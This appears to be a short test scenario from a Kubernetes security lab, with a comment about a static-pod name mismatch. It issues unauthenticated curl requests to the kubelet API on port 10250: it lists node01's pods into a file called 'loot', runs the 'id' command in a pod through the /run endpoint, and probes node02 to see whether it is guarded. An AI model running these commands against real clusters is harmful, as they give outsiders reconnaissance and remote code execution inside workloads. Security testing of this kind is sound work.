# scene fails order-given (static-pod-name): the manifest says web, the kubelet's pod is web-node01
#@ outsider
curl -sk https://node01:10250/pods > loot
curl -sk -X POST 'https://node01:10250/run/default/web/web?cmd=id' >> loot
curl -sk -w '\n%{http_code}\n' https://node02:10250/pods > guarded
